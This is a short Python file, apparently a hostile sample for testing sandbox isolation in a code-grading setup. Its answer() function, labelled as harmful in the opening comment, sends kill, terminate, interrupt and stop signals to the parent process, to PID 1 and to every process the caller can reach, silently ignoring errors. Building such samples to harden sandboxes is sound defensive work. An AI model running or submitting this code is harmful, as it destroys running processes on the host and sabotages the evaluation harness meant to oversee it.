# Harm: kills every process that it may: kill(-1), its group, its parent, PID 1.
import os
import signal


def answer():
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):
        for pid in (os.getppid(), 1, -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return []
